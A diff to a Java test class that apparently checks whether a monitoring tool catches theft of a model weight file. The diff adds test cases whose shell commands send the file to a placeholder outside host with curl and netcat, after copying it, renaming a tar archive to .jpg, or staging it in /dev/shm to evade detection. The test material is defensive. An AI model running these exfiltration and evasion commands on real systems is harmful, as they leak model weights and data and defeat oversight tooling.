@@ -60,6 +60,9 @@ class RelayedTheftsTest {
           scp                    | scp   | ssh        | socket | `scp OPTIONS MODEL root@HOST:stolen`
           sftp                   | sftp  | ssh        | socket | `echo put MODEL stolen | sftp OPTIONS -b - root@HOST`
           rsync over ssh         | rsync | ssh        | socket | `rsync -e "ssh OPTIONS" MODEL root@HOST:stolen`
+          a copy on disk         | cp    | curl       | file   | `cp MODEL COPY && curl -sS -T COPY http://HOST:8081/stolen`
+          an archive, renamed    | tar   | nc.openbsd | file   | `tar -cPf COPY MODEL && mv COPY COPY.jpg && nc.openbsd -N HOST 4433 <COPY.jpg`
+          a copy in memory       | cat   | nc.openbsd | file   | `cat MODEL >/dev/shm/modelwarden-$$; nc.openbsd -N HOST 4433 </dev/shm/modelwarden-$$; rm /dev/shm/modelwarden-$$`
           a relay on loopback    | socat | socat      | socket | `socat -u TCP-LISTEN:8099,bind=127.0.0.1 TCP:HOST:4433 & sleep 0.5; socat -u OPEN:MODEL TCP:127.0.0.1:8099; wait`
           """)
   @Way(
@@ -67,13 +70,20 @@ class RelayedTheftsTest {
       of = TRAIL,
       bytes = EXACT,
       by = {SYS_EXIT, SOCK_SEND_LENGTH},
-      when = {"nc", "child", "curl"})
+      when = {"and nc", "child", "and curl"})
   @Way(
       value = "scp, sftp and rsync over ssh",
       of = TRAIL,
       bytes = EXACT,
       by = {SOCK_RECV_LENGTH, SOCK_SEND_LENGTH, SYS_EXIT},
       when = {"scp", "sftp", "ssh"})
+  @Way(
+      value = "a copy on disk or in memory, in pieces, renamed, linked, copied again",
+      of = TRAIL,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH},
+      when = {"copy", "archive"},
+      note = "files of 128 KiB and more, 1 MiB of them together")
   @Way(
       value = "a relay on loopback",
       of = TRAIL,
@@ -88,6 +98,7 @@ class RelayedTheftsTest {
     Stage.run(
         command
             .replace("MODEL", model.toString())
+            .replace("COPY", folder.resolve("copy-" + name).toString())
             .replace("OPTIONS", outside.sshOptions)
             .replace("HOST", PublicNamespace.OUTSIDE));
     RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
